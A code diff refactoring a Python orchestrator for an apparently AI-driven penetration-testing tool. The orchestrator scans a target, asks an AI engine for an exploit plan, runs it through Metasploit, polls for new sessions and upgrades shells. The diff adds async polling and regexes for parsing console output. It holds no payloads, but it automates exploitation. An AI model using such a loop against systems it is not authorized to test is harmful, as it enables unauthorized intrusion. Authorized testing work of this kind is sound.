@@ -1,4 +1,6 @@
+import re
 import time
+import asyncio
 import logging
 import threading
 from typing import Optional, Any, Dict
@@ -17,6 +19,13 @@ from core.exceptions import (
 
 logger = logging.getLogger("core.orchestrator")
 
+# Matches MSF console output like "[*] Command shell session 1 opened ..."
+_SESSION_OPENED_RE = re.compile(r"session (\d+) opened", re.I)
+
+# Matches "Exploit completed, but no session was created." and variants without
+# forcing a lowercased copy of the whole console buffer per poll
+_EXPLOIT_DONE_RE = re.compile(r"[Ee]xploit [Cc]ompleted")
+
 
 class SpectraOrchestrator:
     """
@@ -38,7 +47,7 @@ class SpectraOrchestrator:
         self.target = target
         self.lhost = lhost
         self.msf = msf_client
-        self.scanner = ScannerUnit(target)
+        self.scanner = ScannerUnit(target, shutdown_event=shutdown_event)
         # ExploiterUnit and PostExploitUnit expect underlying msf client object (existing code)
         self.exploiter = ExploiterUnit(msf_client.client)
         self.post = PostExploitUnit(msf_client.client)
@@ -47,20 +56,92 @@ class SpectraOrchestrator:
         self.auto_confirm = auto_confirm
         self.shutdown_event = shutdown_event
         self.poll_timeout = poll_timeout
+        # sessions manager bound lazily on first use, so the poll loop pays one
+        # attribute access per read instead of the msf.client.sessions chain
+        self._msf_sessions: Optional[Any] = None
 
     def _is_shutdown(self) -> bool:
         return bool(self.shutdown_event and self.shutdown_event.is_set())
 
+    def _wait(self, delay: float) -> None:
+        """Sleep for delay seconds, waking early if a shutdown is signalled."""
+        if self.shutdown_event is not None:
+            self.shutdown_event.wait(timeout=delay)
+        else:
+            time.sleep(delay)
+
+    def _read_sessions(self) -> Dict[str, Any]:
+        """Blocking read of the MSF sessions mapping; raises MSFRPCException on failure."""
+        try:
+            sessions = self._msf_sessions
+            if sessions is None:
+                sessions = self._msf_sessions = self.msf.client.sessions
+            return getattr(sessions, "list", {}) or {}
+        except Exception as e:
+            logger.exception("Failed to read MSF sessions during polling")
+            raise MSFRPCException("MSF session read failed during polling", original=e)
+
+    @staticmethod
+    def _read_console(console: Any) -> Optional[str]:
+        """Blocking console read; returns None when the console is unavailable."""
+        try:
+            return console.read().get("data", "")
+        except Exception:
+            # console may be None or read() may fail; ignore and continue until timeout
+            logger.debug("Console read failed or not available", exc_info=True)
+            return None
+
+    def _execute_plan(self, plan: Dict[str, Any]) -> Any:
+        """Blocking exploit launch, tolerating older ExploiterUnit signatures."""
+        # maintain backward compatibility with existing ExploiterUnit signature
+        try:
+            return self.exploiter.execute(plan, self.target, dry_run=self.dry_run)
+        except TypeError:
+            return self.exploiter.execute(plan, self.target)
+
+    def _handle_new_session(self, s_id: Any, session_info: Dict[str, Any]) -> Dict[str, Any]:
+        """Build the run() result for a freshly opened session, upgrading shells."""
+        logger.info("New session detected: %s (type=%s)", s_id, session_info.get("type"))
+        # if it's a shell session, attempt upgrade (post_exploit)
+        if session_info.get("type") == "shell":
+            try:
+                self.post.upgrade_shell(s_id, self.lhost)
+            except Exception as e:
+                logger.exception("Failed to upgrade shell session")
+                # return success but note that upgrade failed
+                return {
+                    "status": "success",
+                    "reason": "session_opened_upgrade_failed",
+                    "details": {"session_id": s_id, "upgrade_error": str(e)},
+                }
+            return {
+                "status": "success",
+                "reason": "session_opened_and_upgraded",
+                "details": {"session_id": s_id, "type": "upgraded_shell"},
+            }
+        # non-shell session: success
+        return {"status": "success", "reason": "session_opened", "details": {"session_id": s_id, "type": session_info.get("type")}}
+
     def run(self) -> Dict[str, Any]:
         """
         Run orchestration and return structured result:
           {"status": "success"|"failure"|"partial"|"interrupted"|"unknown",
            "reason": "<short_code>",
            "details": {...}}
+
+        Synchronous wrapper kept for existing callers; the work happens in
+        run_async so MSF RPC round trips can overlap.
+        """
+        return asyncio.run(self.run_async())
+
+    async def run_async(self) -> Dict[str, Any]:
+        """
+        Async counterpart of run(); blocking RPC calls are pushed to worker
+        threads and the session + console polls run concurrently.
         """
         try:
             logger.info("Starting reconnaissance for target: %s", self.target)
-            recon = self.scanner.scan_services()
+            recon = await asyncio.to_thread(self.scanner.scan_services)
             if self._is_shutdown():
                 logger.info("Shutdown requested after recon step")
                 return {"status": "interrupted", "reason": "shutdown_requested", "details": {}}
@@ -68,7 +149,7 @@ class SpectraOrchestrator:
             logger.debug("Recon result: %s", recon)
 
             logger.info("Requesting strategy from AI engine")
-            plan = self.brain.get_strategy(recon)
+            plan = await asyncio.to_thread(self.brain.get_strategy, recon)
             # brain returns either a strategy dict or {"manual_review": True, "rationale": "..."}
             if not plan:
                 logger.error("AI engine returned no plan")
@@ -94,7 +175,9 @@ class SpectraOrchestrator:
 
             # remember pre-existing sessions
             try:
-                pre_sessions = set(getattr(self.msf.client.sessions, "list", {}).keys())
+                pre_sessions = frozenset(await asyncio.to_thread(self._read_sessions))
+            except MSFRPCException:
+                raise
             except Exception as e:
                 logger.exception("Failed to read MSF sessions")
                 raise MSFRPCException("Failed to read MSF sessions", details={"error": str(e)}, original=e)
@@ -102,72 +185,67 @@ class SpectraOrchestrator:
             # execute exploit (ExploiterUnit should respect dry_run / safe mode internally if implemented)
             logger.info("Executing exploit plan: module=%s payload=%s", plan.get("module"), plan.get("payload"))
             try:
-                # maintain backward compatibility with existing ExploiterUnit signature
-                try:
-                    console = self.exploiter.execute(plan, self.target, dry_run=self.dry_run)
-                except TypeError:
-                    console = self.exploiter.execute(plan, self.target)
+                console = await asyncio.to_thread(self._execute_plan, plan)
             except Exception as e:
                 logger.exception("Exploit execution failed")
                 raise ExploitExecutionException("Exploit execution failed", details={"plan": plan}, original=e)
 
-            # poll for new sessions until timeout or shutdown requested
+            # poll for new sessions until timeout or shutdown requested; delay
+            # starts small for short-lived exploits and backs off towards 5s
             start = time.time()
+            delay = 0.1
             logger.info("Polling for new sessions (timeout=%ds)...", self.poll_timeout)
             while time.time() - start < self.poll_timeout:
                 if self._is_shutdown():
                     logger.info("Shutdown requested during polling")
                     return {"status": "interrupted", "reason": "shutdown_requested", "details": {}}
 
-                try:
-                    current = set(getattr(self.msf.client.sessions, "list", {}).keys())
-                except Exception as e:
-                    logger.exception("Failed to read MSF sessions during polling")
-                    raise MSFRPCException("MSF session read failed during polling", original=e)
-
-                new = current - pre_sessions
-                if new:
-                    s_id = list(new)[0]
-                    session_info = self.msf.client.sessions.list[s_id]
-                    logger.info("New session detected: %s (type=%s)", s_id, session_info.get("type"))
-                    # if it's a shell session, attempt upgrade (post_exploit)
-                    if session_info.get("type") == "shell":
+                # both reads are network round trips; overlap them instead of
+                # serializing sessions.list then console.read
+                if console:
+                    sessions_list, log_data = await asyncio.gather(
+                        asyncio.to_thread(self._read_sessions),
+                        asyncio.to_thread(self._read_console, console),
+                    )
+                else:
+                    sessions_list = await asyncio.to_thread(self._read_sessions)
+                    log_data = None
+
+                # one-pass membership check against the pre-exploit frozenset;
+                # reuse the snapshot to index the new entry (no second RPC)
+                new_sids = [sid for sid in sessions_list if sid not in pre_sessions]
+                if new_sids:
+                    s_id = new_sids[0]
+                    return await asyncio.to_thread(self._handle_new_session, s_id, sessions_list[s_id])
+
+                # inspect exploit console logs to classify failure
+                if log_data:
+                    # short-circuit: the console often announces the session
+                    # before the sessions list reflects it
+                    m = _SESSION_OPENED_RE.search(log_data)
+                    # consoles see session events from the whole MSF instance,
+                    # so only act on ids this exploit actually opened
+                    if m and m.group(1) not in pre_sessions:
+                        s_id = m.group(1)
                         try:
-                            self.post.upgrade_shell(s_id, self.lhost)
-                        except Exception as e:
-                            logger.exception("Failed to upgrade shell session")
-                            # return success but note that upgrade failed
-                            return {
-                                "status": "success",
-                                "reason": "session_opened_upgrade_failed",
-                                "details": {"session_id": s_id, "upgrade_error": str(e)},
-                            }
-                        # continue polling for a non-shell session OR treat upgraded as success
-                        return {
-                            "status": "success",
-                            "reason": "session_opened_and_upgraded",
-                            "details": {"session_id": s_id, "type": "upgraded_shell"},
-                        }
-                    # non-shell session: success
-                    return {"status": "success", "reason": "session_opened", "details": {"session_id": s_id, "type": session_info.get("type")}}
-
-                # read exploit console logs if available to classify failure
-                try:
-                    if console:
-                        log_data = console.read().get("data", "")
-                        if "Exploit completed" in log_data or "exploit completed" in log_data.lower():
-                            classification = ""
-                            try:
-                                classification = self.exploiter.classify_log(log_data)
-                            except Exception:
-                                classification = "unknown_failure"
-                            logger.error("Exploit completed without session: %s", classification)
-                            return {"status": "failure", "reason": "exploit_failed", "details": {"classification": classification, "log": log_data}}
-                except Exception:
-                    # console may be None or read() may fail; ignore and continue until timeout
-                    logger.debug("Console read failed or not available", exc_info=True)
-
-                time.sleep(5)
+                            session_info = (await asyncio.to_thread(self._read_sessions)).get(s_id)
+                        except Exception:
+                            session_info = None
+                        if session_info:
+                            return await asyncio.to_thread(self._handle_new_session, s_id, session_info)
+                        # announced but not listed yet: re-check quickly
+                        delay = 0.1
+                    elif _EXPLOIT_DONE_RE.search(log_data):
+                        classification = ""
+                        try:
+                            classification = self.exploiter.classify_log(log_data)
+                        except Exception:
+                            classification = "unknown_failure"
+                        logger.error("Exploit completed without session: %s", classification)
+                        return {"status": "failure", "reason": "exploit_failed", "details": {"classification": classification, "log": log_data}}
+
+                await asyncio.to_thread(self._wait, delay)
+                delay = min(5.0, delay * 1.5)
 
             # timeout expired
             logger.warning("Polling timeout expired without new session")
@@ -176,9 +254,9 @@ class SpectraOrchestrator:
         except SpectraException as se:
             # structured exception coming from internal modules
             logger.error("SpectraException occurred: %s", se)
-            return {"status": "failure", "reason": se.reason.value if hasattr(se, "reason") else "exception", "details": se.to_dict() if hasattr(se, "to_dict") else {"message": str(se)}}
+            return {"status": "failure", "reason": getattr(se, "reason", "exception"), "details": se.to_dict() if hasattr(se, "to_dict") else {"message": str(se)}}
         except Exception as e:
             # unexpected error - wrap and return
             logger.exception("Unhandled exception in orchestrator")
             wrapped = SpectraException(str(e))
-            return {"status": "failure", "reason": wrapped.reason.value, "details": {"error": str(e)}}
+            return {"status": "failure", "reason": wrapped.reason, "details": {"error": str(e)}}